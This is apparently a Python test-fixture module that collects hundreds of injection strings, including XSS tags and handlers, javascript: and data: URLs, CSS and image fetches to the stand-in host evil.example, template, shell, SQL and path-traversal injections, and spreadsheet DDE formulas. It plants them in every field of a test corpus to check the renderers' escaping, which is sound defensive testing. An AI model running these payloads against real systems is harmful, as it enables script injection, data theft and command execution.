r"""Texts that would run, fetch or break something where they are shown as anything but text.

Whoever runs one calls ``__hit``; whoever fetches one asks for something at ``ELSEWHERE``. They are written for this project, by the
kind of place that they want to break out of: HTML, attributes, scripts, styles, SVG and MathML, addresses, Markdown, formulas, plotly's
texts, templates, spreadsheets, terminals, and readers of characters.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping, Sequence
from typing import TYPE_CHECKING, Any

from workbench.model import FACTS, Annotation, Article, Origin, Run, Span

if TYPE_CHECKING:
    from workbench import Corpus

ELSEWHERE = "evil.example"
_HIT = "__hit(1)"
_PULL = f"//{ELSEWHERE}/x"

ATTACKS: dict[str, tuple[str, ...]] = {
    "scripts": (
        f"<script>{_HIT}</script>",
        f"<SCRIPT\t>{_HIT}</SCRIPT >",
        f"<script\x0csrc={_PULL}></script>",
        f"<script src='https:{_PULL}.js' async></script>",
        f"<script type=module>{_HIT}</script>",
        f"<script type=module src={_PULL}.mjs></script>",
        f'<script type="application/json">{{}}</script><script>{_HIT}</script>',
        f"<scr<script>ipt>{_HIT}</scr</script>ipt>",
        f"<<script>{_HIT}//<</script>",
        f"<script>{_HIT}",
        f"<noscript><p title='</noscript><script>{_HIT}</script>'>",
        f"<script>/*</script><script>*/{_HIT}</script>",
        f"<template shadowrootmode=open><script>{_HIT}</script></template>",
        f"<x-a is=script>{_HIT}</x-a><script xmlns='http://www.w3.org/1999/xhtml'>{_HIT}</script>",
    ),
    "handlers": (
        f"<img src=x onerror={_HIT}>",
        f"<img src=x onerror='{_HIT}'//",
        f"<IMG/SRC=x\nONERROR\n=\n{_HIT}>",
        "<img src=data: onerror=&#95;&#95;hit(1)>",
        f"<body onload={_HIT}>",
        f"<div onmouseover={_HIT} style=position:fixed;inset:0>over</div>",
        f"<input autofocus onfocus={_HIT}>",
        f"<select autofocus onfocus={_HIT}><option>1</select>",
        f"<textarea autofocus onfocus={_HIT}></textarea>",
        f"<details open ontoggle={_HIT}><summary>s</summary></details>",
        f"<video autoplay onplay={_HIT} onerror={_HIT} src=x></video>",
        f"<audio src=x onerror={_HIT}>",
        f"<video><source onerror={_HIT}></video>",
        f"<marquee onstart={_HIT}>m</marquee>",
        f"<p tabindex=0 autofocus onfocusin={_HIT}>p",
        f"<button popovertarget=q>b</button><p popover id=q onbeforetoggle={_HIT}>q",
        f"<style onload={_HIT}></style>",
        f"<p style='animation:wb-x 1s' onanimationstart={_HIT}>a",
        f"<p contenteditable onbeforeinput={_HIT} onpaste={_HIT}>p",
        f"<xss onpointerrawupdate={_HIT} onwheel={_HIT} style=display:block>x</xss>",
        f"<dialog open onclose={_HIT}><form method=dialog><button autofocus>b",
    ),
    "attributes": (
        f'"><img src=x onerror={_HIT}>',
        f"'><img src=x onerror={_HIT}>",
        f'" autofocus onfocus="{_HIT}" x="',
        f"' autofocus onfocus='{_HIT}' x='",
        f'" onmouseenter={_HIT} onclick={_HIT} "',
        f" autofocus tabindex=0 onfocus={_HIT} ",
        f"x onmouseover={_HIT}",
        f"`><script>{_HIT}</script>",
        f'"/><svg/onload={_HIT}>',
        f'" style="background:url({_PULL})" x="',
        f'" href="javascript:{_HIT}" x="',
        f'" srcdoc="<script>parent.{_HIT}</script>',
        f"&quot;><img src=x onerror={_HIT}>",
        f"&#34;&#62;<img src=x onerror={_HIT}>",
        f'="><script>{_HIT}</script>',
        f"\\\"><script>{_HIT}</script>",
        f"\" ping=\"{_PULL}",
    ),
    "elements": (
        f"</p></div></div></td></table><img src=x onerror={_HIT}>",
        f"</title><script>{_HIT}</script>",
        f"</textarea><script>{_HIT}</script>",
        f"</style><script>{_HIT}</script>",
        f"</script><script>{_HIT}</script>",
        f"</ScRiPt ><img src=x onerror={_HIT}>",
        f"</noscript><img src=x onerror={_HIT}>",
        f"</template><img src=x onerror={_HIT}>",
        f"</select></option><img src=x onerror={_HIT}>",
        f"</svg></math></iframe></xmp></noembed></plaintext><script>{_HIT}</script>",
        f"</button></summary></details></mark></sup></span><img src=x onerror={_HIT}>",
        f"--><script>{_HIT}</script>",
        f"--!><img src=x onerror={_HIT}>",
        f"<!--><img src=x onerror={_HIT}>-->",
        f"<!-- x --!><script>{_HIT}</script>",
        f"]]><script>{_HIT}</script>",
        f"<![CDATA[<img src=x onerror={_HIT}>]]>",
        f"<?xml version='1.0'?><?xml-stylesheet href='{_PULL}' type='text/xsl'?>",
        f"<!DOCTYPE x [<!ENTITY e SYSTEM 'https:{_PULL}'>]>&e;",
        "<plaintext><xmp><listing>",
        "<!--",
        "<textarea>",
        "<title><select><template>",
        "<div id=main><form name=body><input name=textContent>",
        f"<a id=jupyterapp name=bench href={_PULL}>clobber</a>",
        "<p class='wb-view wb-reader' data-ready=1 hidden>",
    ),
    "scripts that hold data": (
        f"\";{_HIT};//",
        f"';{_HIT};//",
        f"`${{{_HIT}}}`",
        f"\\';{_HIT};//",
        f"\u2028{_HIT}\u2029",
        f'{{"__proto__": {{"innerHTML": "<img src=x onerror={_HIT}>"}}}}',
        "__proto__",
        "constructor",
        f"toString();{_HIT}",
        f"}});{_HIT};({{",
        f"*/{_HIT}/*",
        "<!--<script>",
        f"\\u003cimg src=x onerror={_HIT}\\u003e",
        f"\\x3cscript\\x3e{_HIT}\\x3c/script\\x3e",
    ),
    "drawings and formulas of HTML": (
        f"<svg onload={_HIT}>",
        f"<svg/onload={_HIT}//",
        f"<svg><script>{_HIT}</script></svg>",
        f"<svg><script href=https:{_PULL} /></svg>",
        f"<svg><script xlink:href=data:text/javascript,{_HIT} /></svg>",
        f"<svg><foreignObject><iframe srcdoc='<script>parent.{_HIT}</script>'></foreignObject></svg>",
        f"<svg><a xlink:href='javascript:{_HIT}'><text y=20>t</text></a></svg>",
        f"<svg><animate onbegin={_HIT} attributeName=x dur=1s>",
        f"<svg><set attributeName=href to=javascript:{_HIT} /></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={_HIT}/>#x'/></svg>",
        f"<svg><use href='https:{_PULL}.svg#x'/><image href='https:{_PULL}.png'/></svg>",
        f"<svg><style><img src=x onerror={_HIT}></style></svg>",
        f"<svg><desc><![CDATA[</desc><img src=x onerror={_HIT}>]]></svg>",
        f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={_HIT}>",
        f"<math href='javascript:{_HIT}'><mi>x</mi></math>",
        f"<math><maction actiontype=statusline xlink:href='javascript:{_HIT}'>m</maction></math>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_HIT}>",
        f"</title><svg onload={_HIT}>",
        f"</text></g></svg><script>{_HIT}</script>",
        f"<image href=https:{_PULL}.png><image src=x onerror={_HIT}>",
    ),
    "addresses": (
        f"javascript:{_HIT}",
        f"JaVaScRiPt:{_HIT}",
        f"java\tscript:{_HIT}",
        f"java\nscript:{_HIT}",
        f"\x01javascript:{_HIT}",
        f" javascript:{_HIT}",
        f"javascript&colon;{_HIT}",
        f"&#106;avascript:{_HIT}",
        f"javascript://example.org/%0a{_HIT}",
        f"https:javascript:{_HIT}",
        "vbscript:msgbox(1)",
        f"data:text/html,<script>parent.{_HIT}</script>",
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQoMSk8L3NjcmlwdD4=",
        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.{_HIT}'/>",
        f"blob:https:{_PULL}",
        "file:///etc/hostname",
        f"view-source:javascript:{_HIT}",
        f"{_PULL}",
        f"\\\\{ELSEWHERE}\\x",
        f"https:{_PULL}\" onmouseover=\"{_HIT}",
        f"https:{_PULL}'><script>{_HIT}</script>",
        "http://[::1",
        f"http://a@{ELSEWHERE}:99999/%00",
        f"https:{_PULL}#\"><img src=x onerror={_HIT}>",
        f"https://bbc.example@{ELSEWHERE}/",
        f"ftp:{_PULL}",
        f"mailto:a@{ELSEWHERE}?body=<script>{_HIT}</script>",
    ),
    "what fetches": (
        f"<img src=https:{_PULL}.png>",
        f"<img srcset='https:{_PULL}.png 1x' src=x>",
        f"<img loading=eager src={_PULL}>",
        f"<picture><source srcset=https:{_PULL}><img></picture>",
        f"<link rel=stylesheet href=https:{_PULL}.css>",
        f"<link rel=prefetch href=https:{_PULL}><link rel=dns-prefetch href={_PULL}><link rel=preconnect href={_PULL}>",
        f"<link rel=modulepreload href=https:{_PULL}.mjs>",
        f"<meta http-equiv=refresh content='0;url=https:{_PULL}'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{_HIT}'>",
        f"<base href=https:{_PULL}/>",
        f"<iframe src=https:{_PULL}></iframe>",
        f"<iframe srcdoc='<script>parent.{_HIT}</script>'></iframe>",
        f"<iframe src=javascript:parent.{_HIT}></iframe>",
        f"<frameset><frame src=javascript:parent.{_HIT}></frameset>",
        f"<object data=https:{_PULL}></object>",
        f"<object data='data:text/html,<script>parent.{_HIT}</script>'></object>",
        f"<embed src=https:{_PULL}>",
        f"<embed src=javascript:{_HIT}>",
        f"<applet code=X codebase=https:{_PULL}></applet>",
        f"<table background=https:{_PULL}><td background=https:{_PULL}>t",
        f"<input type=image src=https:{_PULL} onerror={_HIT}>",
        f"<video poster=https:{_PULL} src=https:{_PULL}></video>",
        f"<track src=https:{_PULL}><audio src=https:{_PULL} preload=auto>",
        f"<form action=https:{_PULL}><button autofocus>send</button></form>",
        f"<button form=x formaction=javascript:{_HIT}>b</button>",
        f"<a href=javascript:{_HIT}>a</a>",
        f"<a href=https:{_PULL} ping=https:{_PULL}>a</a>",
        f"<area href=javascript:{_HIT} shape=default>",
        f"<portal src=https:{_PULL}></portal><fencedframe src=https:{_PULL}>",
    ),
    "styles": (
        f"<style>@import 'https:{_PULL}.css';</style>",
        f"<style>*{{background:url(https:{_PULL})}}</style>",
        f"<style>@font-face{{font-family:f;src:url(https:{_PULL})}}*{{font-family:f}}</style>",
        f"<p style=\"background:url('https:{_PULL}')\">p",
        f"<p style='list-style:url(https:{_PULL});cursor:url(https:{_PULL}),auto'>p",
        f"red;background:url(https:{_PULL})",
        f"#b42318;background-image:url({_PULL})",
        f"}}*{{background:url(https:{_PULL})}}",
        f"</style><style>*{{background:image-set(url(https:{_PULL}) 1x)}}",
        f"expression({_HIT})",
        f"@import url(https:{_PULL});",
        f'"] {{ background: url(https:{_PULL}) }} [x="',
        f"\\22 ;}}*{{content:url(https:{_PULL})}}",
        "<p style=position:fixed;inset:0;z-index:99999;background:red>cover",
        "<p class=jp-Dialog>cover",
    ),
    "markdown": (
        f"[click](javascript:{_HIT})",
        f"[click]( java\tscript:{_HIT} )",
        f"![picture](https:{_PULL}.png)",
        f'![x](x"onerror="{_HIT})',
        f"[a]: javascript:{_HIT}\n\n[a]",
        f"<javascript:{_HIT}>",
        f"<https:{_PULL}>",
        f"```html\n<img src=x onerror={_HIT}>\n```",
        f"    <script>{_HIT}</script>",
        f"# heading\n\n<img src=x onerror={_HIT}>",
        f"| a | <img src=x onerror={_HIT}> |\n|---|---|",
        f"[![x](https:{_PULL})](data:text/html,<script>{_HIT}</script>)",
        f"```mermaid\ngraph TD; A[<img src=x onerror={_HIT}>]; click A \"javascript:{_HIT}\"\n```",
        "__bold__ *em* ~~gone~~ `code` <b>tag</b> &lt;kept&gt;",
    ),
    "formulas": (
        rf"$\href{{javascript:{_HIT}}}{{click}}$",
        rf"$$\href{{javascript:{_HIT}}}{{\text{{<img src=x onerror={_HIT}>}}}}$$",
        rf"\(\href{{javascript:{_HIT}}}{{x}}\)",
        rf"\[\unicode{{<img src=x onerror={_HIT}>}}\]",
        rf"$\style{{background:url(https:{_PULL})}}{{x}}$",
        r"$\class{jp-Dialog}{x}\cssId{main}{y}$",
        r"$\require{html}\def\a{\a\a}\a$",
        rf"$\includegraphics{{https:{_PULL}.png}}$",
        rf"\begin{{equation}}\href{{javascript:{_HIT}}}{{x}}\end{{equation}}",
        rf"$\begin{{mathchoice}}<script>{_HIT}</script>$",
        "from $5 to $10 & more",
    ),
    "plotly": (
        f"<a href='javascript:{_HIT}'>click</a>",
        f'<a href="https:{_PULL}" target="_self">click</a>',
        f"<a xlink:href='javascript:{_HIT}'>click</a>",
        f"<a href='data:text/html,<script>{_HIT}</script>'>click</a>",
        "<b>bold</b><i>slant</i><br>line<sup>up</sup><sub>down</sub>",
        f"<span style='fill:url(https:{_PULL})'>s</span>",
        f"<a style='cursor:url(https:{_PULL})' href='#'>s</a>",
        f"<extra></extra><script>{_HIT}</script>",
        f"%{{x}} %{{customdata[0]}} %{{text}}<extra>{_HIT}</extra>",
        f"<em onclick={_HIT}>e</em>",
        "&lt;b&gt;kept&lt;/b&gt; &amp;amp; &nbsp;",
    ),
    "half-decoded": (
        f"&lt;script&gt;{_HIT}&lt;/script&gt;",
        f"&amp;lt;img src=x onerror={_HIT}&amp;gt;",
        f"&#60;img src=x onerror={_HIT}&#62;",
        f"&#x3c;img src=x onerror={_HIT}&#x3e;",
        f"&#0000060img src=x onerror={_HIT}>",
        f"&LT;img src=x onerror={_HIT}&GT;",
        f"&lt&gt&quot&apos;&NewLine;&Tab;<img src=x onerror={_HIT}>",
        f"%3Cscript%3E{_HIT}%3C/script%3E",
        f"%253Cimg%20src=x%20onerror={_HIT}%253E",
        f"+ADw-script+AD4-{_HIT}+ADw-/script+AD4-",
        f"\uff1cscript\uff1e{_HIT}\uff1c/script\uff1e",
        f"\u2039img src=x onerror={_HIT}\u203a \u02c2b\u02c3",
        f"\u00bcscript\u00be{_HIT}\u00bc/script\u00be",
        "&#0; &#x0; &#xd800; &#x110000; &#xffffffffff; &notanentity; &#;",
    ),
    "templates": (
        "{{7*7}} {{constructor.constructor('__hit(1)')()}}",
        "${7*7} #{7*7} <%= 7*7 %> {%raw%} [[7*7]] {7*7}",
        "{{ self.__init__.__globals__ }} {% import os %}",
        "%(name)s %s %d %n {0} {0.__class__} {name!r:>{width}}",
        "$(touch /tmp/wb-hit) `touch /tmp/wb-hit` ; touch /tmp/wb-hit",
        "__import__('os').system('touch /tmp/wb-hit')",
        "<%@include file='/etc/hostname'%><!--#exec cmd='id'-->",
        "'; DROP TABLE articles; -- \" OR 1=1 --",
        "../../../../etc/passwd\\..\\..\\x",
    ),
    "spreadsheets": (
        f'=HYPERLINK("https:{_PULL}?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        f'=WEBSERVICE("https:{_PULL}")',
        f'=IMPORTXML("https:{_PULL}";"//a")',
        f"\t=IMAGE(\"https:{_PULL}\")",
        "\r=1+1",
        '"=1+1","=2+2"',
        "\uff1d1+1",
        "'=1+1",
    ),
    "terminals": (
        "\x1b]0;title\x07\x1b[2J\x1b[31mred",
        "\x1b]8;;javascript:__hit(1)\x07click\x1b]8;;\x07",
        f"\x1b]8;;https:{_PULL}\x1b\\click",
        "\x1b[8mhidden\x1b[0m\x1b[1A\x1b[2K",
        "\x9b31m\x90q\x9c",
        "back\b\b\b\bspace\x7f\x00 null \a bell",
        "line\r\nbreak\rreturn\x0bvertical\x0cform\x85next",
    ),
    "characters": (
        f"\u202egnp.<img src=x onerror={_HIT}>\u202c",
        f"\u2066<script>{_HIT}</script>\u2069",
        f"\u200b<\u200bscript\u200b>{_HIT}",
        f"<\u00adimg src=x onerror={_HIT}>",
        f"\ufeff<script>{_HIT}</script>",
        f"<img\u3000src=x\u3000onerror={_HIT}>",
        f"<\x00script>{_HIT}</\x00script>",
        f"<img src=x o\x00nerror={_HIT}>",
        f"<\u017fcript>{_HIT}</\u017fcript>",
        f"\U000e003cscript\U000e003e{_HIT}",
        "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e\u030f" * 4,
        "\ufdfd\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1ee\U0001f1f6 \ufffe\uffff",
        "\u0130\u0131\u212a\ufb03\u1e9e",
        "A" * 2000,
    ),
}  # fmt: skip
"""By kind. None is empty, and no two are the same."""

ALL = tuple(each for some in ATTACKS.values() for each in some)


Pick = Callable[[int], str]


def besieged(attacks: Sequence[str] = ALL, *, articles: int = 0, path: str | None = None) -> Corpus:
    """A corpus with attacks in every field that comes from outside: texts, facts, ids, labels, roles, values, names, notes, signatures.

    ``articles`` is how many there are (default: one for each attack). Each attack stands in a text, and in as many fields as there
    are articles for; where a field takes no controls it stands without them.
    """
    from workbench import Corpus

    plain = [" ".join("".join(c if c.isprintable() else " " for c in each).split()) or "x" for each in attacks]
    corpus = Corpus(path, user=attacks[0])
    step = len(attacks) // (articles or len(attacks))
    for k, at in enumerate(range(0, len(attacks), step)):

        def near(i: int, at: int = at) -> str:
            return attacks[(at + i) % len(attacks)]

        def bare(i: int, at: int = at) -> str:
            return plain[(at + i) % len(attacks)]

        text = "Rain in Qaim, “they said so”, said Ana Ruiz. Envoys met.\n\n" + "\n\n".join(attacks[at : at + step + 1])
        known = {"title": near(0), "source": near(1 - k % 2), "author": near(2), "url": near(3), "language": near(4), "story": near(5)}
        day = near(6) if k % 5 == 4 else f"2014-06-{1 + k % 28:02}"
        article = Article(id=f"{k} {near(0)}", text=text, published=day, **known, meta={"file": near(7), near(8): near(9)})
        run = Run(article=article.id, layer=bare(39), by=f"rules:{bare(40)}@1")
        origin = Origin(article=article.id, where=near(41), facts={"title": near(42)}, found={"title": near(43)})
        corpus.store.add([article], _marks(article, k, near, bare), runs=[run], origins=[origin])
        named = corpus.marks(article.id, "entities")
        corpus.note(named[0], near(44))
        corpus.accept(named[1])
        corpus.reject(named[-1])
    return corpus


def _marks(article: Article, k: int, near: Pick, bare: Pick) -> list[Annotation]:
    """Marks of every layer on the first words of the k-th article, and what rules say of its facts; ``bare`` picks attacks without controls."""
    made: list[Annotation] = []
    words = [Span(*m.span()) for m in re.finditer(r"\S+", article.text)]

    def mark(layer: str, label: str, at: int, roles: Mapping[str, int] | None = None, **values: Any) -> None:
        parts = {role: (words[i],) for role, i in (roles or {}).items()}
        by = f"user:{bare(at + 20)}" if at % 3 == 2 else f"rules:{bare(at + 21)}@{bare(at + 22)[:9]}"
        made.append(Annotation(article=article.id, layer=layer, label=label, spans=(words[at],), by=by, roles=parts, values=values))

    for i in range(3):
        mark("entities", ("PERSON", "GPE", bare(i))[i], i, name=near(i), why=near(i + 1))
        mark("links", "NAME", i, entity=f"person/{bare(i + k // 2)}", name=near(i), why=near(i + 2))
    spot: dict[str, Any] = {"lat": 30 + k % 20, "lon": 40 + k % 30}
    mark("links", "PLACE", 2, entity=f"geonames:{bare(3)}", name=near(3), place_kind=near(4), why=near(5), **spot)
    place = {"name": near(3), "span": list(words[2]), "rule": near(6), **spot}
    time = {"value": "2014-06-03" if k % 2 else near(7), "precision": "day", "rule": near(8), "anchor": near(9)}
    told = {"time": time, "place": place, "modality": near(12), "mode": near(13), "why": near(14)}
    mark("events", "ASSAULT" if k % 2 else bare(10), 10, {"actor": 7, "target": 2, bare(11): 4}, **told)
    mark("links", "INCIDENT", 10, entity=f"incident/{bare(-(k % 4))}", name=near(15), why=near(16))
    said = {"speaker_name": near(19), "sense": near(20), "speaker_how": near(21)}
    mark("quotes", ("direct", "indirect", bare(17))[k % 3], 4, {"speaker": 7, "cue": 6, "addressee": 2, bare(18): 3}, **said)
    mark("links", "UTTERANCE", 4, entity=f"utterance/{bare(-(k % 4))}", name=near(22), why=near(23))
    mark("links", "REFERENCE", 7, entity=near(24), name=near(25), why=near(26))
    mark(bare(27), bare(28), 5, {bare(29): 1}, name=near(32), **{near(30): near(31)})
    mark("furniture", bare(33), 9, why=near(34))
    values = {"value": near(36), "why": near(37), "rule": near(38)}
    made += [Annotation(article=article.id, layer="facts", label=f, spans=(), by=f"rules:{bare(35)}@1", values=values) for f in FACTS]
    return made
